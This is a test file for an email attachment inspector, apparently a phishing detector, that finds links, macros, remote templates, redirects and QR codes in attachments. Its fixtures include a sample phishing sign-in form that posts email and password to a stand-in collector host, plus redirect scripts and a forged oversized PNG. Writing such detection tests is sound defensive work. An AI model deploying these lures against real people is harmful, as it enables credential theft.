import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { inspectAttachments } from '../../src/mail/attachments/index.js';
import { buildDocx, buildZip, context, part, plainPng, qrInLargePng, qrJpeg, qrPng } from './attachments-fixtures.js';
import { invitesQrScan } from '../../src/mail/attachments/qr.js';

describe('attachments: Office documents', () => {
  it('turns an external hyperlink relationship into a link with its visible text', async () => {
    const docx = buildDocx({ paragraph: 'Please find the invoice here.', linkText: 'View invoice', url: 'https://invoice-view.example.com/i?n=1&x=2' });
    const report = await inspectAttachments([part('invoice.docx', docx)], context());
    const [info] = report.attachments;
    assert.equal(info?.detectedType, 'ooxml-word');
    assert.equal(info?.extensionMismatch, false);
    assert.deepEqual(info?.office, { externalRelationships: 1, remoteTemplate: false, hasMacros: false, textChars: 'Please find the invoice here.'.length + 'View invoice'.length });
    assert.equal(info?.linkOnly, true);
    assert.equal(report.links.length, 1);
    assert.equal(report.links[0]?.url, 'https://invoice-view.example.com/i?n=1&x=2', 'XML entities decoded');
    assert.equal(report.links[0]?.foundIn, 'office-relationship');
    assert.equal(report.links[0]?.text, 'View invoice');
    assert.equal(report.attachments.length, 1, 'package parts are not listed as attachments');
  });

  it('notes macros and a remote template, and a wordy document is no link carrier', async () => {
    const docx = buildDocx({
      paragraph: 'Quarterly figures. '.repeat(60),
      linkText: 'source',
      url: 'https://stats.example.org/q3',
      macros: true,
      remoteTemplate: 'http://203.0.113.9/template.dotm',
    });
    const report = await inspectAttachments([part('report.docm', docx)], context());
    const [info] = report.attachments;
    assert.equal(info?.office?.hasMacros, true);
    assert.equal(info?.office?.remoteTemplate, true);
    assert.equal(info?.office?.externalRelationships, 2);
    assert.equal(info?.linkOnly, false);
    const template = report.links.find((link) => link.isIp);
    assert.equal(template?.host, '203.0.113.9');
  });

  it('an Office-looking archive that is damaged inside still yields a result', async () => {
    const broken = buildZip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document><w:body><w:p>' , 'word/_rels/document.xml.rels': '<Relationships><Relationship Id="r" TargetMode="External"' });
    const report = await inspectAttachments([part('broken.docx', broken)], context());
    assert.equal(report.attachments[0]?.detectedType, 'ooxml-word');
    assert.equal(report.attachments[0]?.office?.externalRelationships, 0);
  });
});

describe('attachments: HTML and SVG', () => {
  it('finds a credential form posting elsewhere in an HTML attachment', async () => {
    const html = `<!DOCTYPE html><html><head><title>Sign in</title><script src="https://cdn.kit.example/k.js"></script></head>
      <body><form method="post" action="https://collect.phish.example/post.php"><input type="email" name="u">
      <input type="password" name="p"><button>Sign in</button></form></body></html>`;
    const report = await inspectAttachments([part('Remittance.htm', html, 'text/html')], context());
    const [info] = report.attachments;
    assert.equal(info?.detectedType, 'html');
    assert.deepEqual(info?.html, { hasForm: true, hasPasswordField: true, formActions: ['https://collect.phish.example/post.php'], hasScript: true, metaRefresh: false });
    assert.equal(info?.linkOnly, true);
    assert.deepEqual(report.links.map((link) => [link.url, link.foundIn]).sort(), [
      ['https://cdn.kit.example/k.js', 'html-attachment'],
      ['https://collect.phish.example/post.php', 'html-attachment'],
    ]);
  });

  it('an anchor left open ends where the next one starts', async () => {
    const report = await inspectAttachments([part('open.html', '<html><body><a href="https://one.example/">first<a href="https://two.example/">second</a></body></html>')], context());
    assert.deepEqual(report.links.map((link) => [link.url, link.text]), [
      ['https://one.example/', 'first'],
      ['https://two.example/', 'second'],
    ]);
  });

  it('follows meta refresh and script redirects', async () => {
    const refresh = '<html><head><meta http-equiv="refresh" content="0; url=https://land.example.net/x"></head><body>Loading…</body></html>';
    const script = '<html><body><script>window.location.href = "https://jump.example.org/r?id=5";</script></body></html>';
    const report = await inspectAttachments([part('a.html', refresh), part('b.html', script)], context());
    assert.equal(report.attachments[0]?.html?.metaRefresh, true);
    assert.equal(report.attachments[0]?.linkOnly, true);
    assert.equal(report.attachments[1]?.html?.hasScript, true);
    assert.equal(report.attachments[1]?.linkOnly, true);
    assert.deepEqual(report.links.map((link) => [link.url, link.attachmentIndex]), [
      ['https://land.example.net/x', 0],
      ['https://jump.example.org/r?id=5', 1],
    ]);
  });

  it('a newsletter-like HTML page with real text is no link carrier', async () => {
    const paragraphs = Array.from({ length: 12 }, (_, i) => `<p>News item ${i}: the spring catalogue is out, with new cameras and lenses for broadcast studios.</p>`).join('');
    const report = await inspectAttachments([part('news.html', `<html><body>${paragraphs}<a href="https://shop.example.com/">shop</a></body></html>`)], context());
    assert.equal(report.attachments[0]?.linkOnly, false);
    assert.equal(report.links[0]?.text, 'shop');
  });

  it('decodes a Shift_JIS page in the charset it declares', async () => {
    const head = Buffer.from('<html><head><meta charset="Shift_JIS"></head><body><a href="https://jp-lure.example.jp/l">', 'latin1');
    const kochira = Buffer.from([0x82, 0xb1, 0x82, 0xbf, 0x82, 0xe7]); // こちら
    const tail = Buffer.from('</a></body></html>', 'latin1');
    const report = await inspectAttachments([part('oshirase.html', Buffer.concat([head, kochira, tail]))], context());
    assert.equal(report.links[0]?.text, 'こちら');
  });

  it('reads links and scripts inside SVG images', async () => {
    const svg = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="https://svg-lure.example/s"><text>Open</text></a><script>location.replace("https://svg-lure.example/go")</script></svg>';
    const report = await inspectAttachments([part('fax.svg', svg, 'image/svg+xml')], context());
    assert.equal(report.attachments[0]?.detectedType, 'svg');
    assert.equal(report.attachments[0]?.html?.hasScript, true);
    assert.equal(report.attachments[0]?.linkOnly, true);
    assert.deepEqual(report.links.map((link) => link.url).sort(), ['https://svg-lure.example/go', 'https://svg-lure.example/s']);
  });
});

describe('attachments: QR codes in images', () => {
  it('decodes a QR code in a PNG and a JPEG into links', async () => {
    const report = await inspectAttachments(
      [part('code.png', qrPng('https://qr-lure.example.com/m?x=1'), 'image/png'), part('code.jpg', qrJpeg('https://qr-lure.example.com/j'), 'image/jpeg')],
      context(),
    );
    assert.deepEqual(report.attachments.map((info) => info.qrCodes), [['https://qr-lure.example.com/m?x=1'], ['https://qr-lure.example.com/j']]);
    assert.deepEqual(report.attachments.map((info) => info.linkOnly), [true, true]);
    assert.deepEqual(report.links.map((link) => [link.foundIn, link.attachmentIndex]), [['qr-image', 0], ['qr-image', 1]]);
  });

  it('reads inverted codes and codes on a transparent background', async () => {
    const report = await inspectAttachments(
      [part('inv.png', qrPng('https://inverted.example/', 6, 'inverted')), part('clear.png', qrPng('https://clear.example/', 6, 'transparent'))],
      context(),
    );
    assert.deepEqual(report.attachments.map((info) => info.qrCodes), [['https://inverted.example/'], ['https://clear.example/']]);
  });

  it('finds a QR code in a large picture after shrinking it for the search', async () => {
    const photo = qrInLargePng('https://big-photo.example/q', 2400, 1600, 9, { x: 1700, y: 900 });
    const report = await inspectAttachments([part('photo.png', photo)], context());
    assert.deepEqual(report.attachments[0]?.qrCodes, ['https://big-photo.example/q']);
  });

  it('spends the per-message QR searches on the images that look most like a code', async () => {
    const banner = qrInLargePng('https://banner.example/', 1200, 300, 4, { x: 40, y: 40 });
    const square = qrPng('https://square.example/', 6);
    const one = await inspectAttachments([part('banner.png', banner), part('code.png', square)], context({ limits: { maxQrImages: 1 } }));
    assert.deepEqual(one.attachments.map((info) => info.qrCodes), [[], ['https://square.example/']], 'the square image is searched first although listed second');
    const two = await inspectAttachments([part('banner.png', banner), part('code.png', square)], context({ limits: { maxQrImages: 2 } }));
    assert.deepEqual(two.attachments.map((info) => info.qrCodes), [['https://banner.example/'], ['https://square.example/']]);
  });

  it('searches inline pictures only when the message invites a scan; attached images always', async () => {
    const inline = { ...part('logo.png', qrPng('https://inline.example/', 6)), disposition: 'inline' as const };
    const attached = part('code.png', qrPng('https://attached.example/', 6));
    const quiet = await inspectAttachments([inline, attached], context({ qrInvited: false }));
    assert.deepEqual(quiet.attachments.map((info) => info.qrCodes), [[], ['https://attached.example/']]);
    const invited = await inspectAttachments([inline, attached], context({ qrInvited: true }));
    assert.deepEqual(invited.attachments.map((info) => info.qrCodes), [['https://inline.example/'], ['https://attached.example/']]);
    const longText = 'Our quarterly newsletter. '.repeat(40);
    assert.equal(invitesQrScan('Newsletter', longText), false);
    assert.equal(invitesQrScan('Newsletter', `${longText} Scan the code below to sign in.`), true);
    assert.equal(invitesQrScan('お知らせ', `${longText} 下のQRコードを読み取ってください。`), true);
    assert.equal(invitesQrScan('', 'See picture.'), true, 'a message that is hardly more than its pictures');
  });

  it('a QR code that is not a URL is kept but is no link', async () => {
    const report = await inspectAttachments([part('wifi.png', qrPng('WIFI:T:WPA;S:office;P:secret;;'))], context());
    assert.deepEqual(report.attachments[0]?.qrCodes, ['WIFI:T:WPA;S:office;P:secret;;']);
    assert.equal(report.attachments[0]?.linkOnly, false);
    assert.equal(report.links.length, 0);
  });

  it('an ordinary picture has no QR code; oversized and broken images give errors, not crashes', async () => {
    const huge = new Uint8Array(plainPng());
    new DataView(huge.buffer).setUint32(16, 30000);
    new DataView(huge.buffer).setUint32(20, 30000);
    const report = await inspectAttachments(
      [part('logo.png', plainPng()), part('big.png', qrPng('https://x.example/', 20)), part('bomb.png', huge), part('cut.jpg', qrJpeg('https://y.example/').slice(0, 300))],
      context({ limits: { maxImageBytes: 2000, maxQrImages: 10 } }),
    );
    assert.deepEqual(report.attachments[0]?.qrCodes, []);
    assert.deepEqual(report.attachments[0]?.errors, []);
    assert.ok(report.attachments[1]?.errors.some((error) => error.includes('QR decode cap')));
    assert.ok(report.attachments[2]?.errors.some((error) => error.includes('30000×30000')));
    assert.ok(report.attachments[3]?.errors.length);
    assert.equal(report.errors.filter((error) => error.stage === 'qr').length, 3);
  });
});
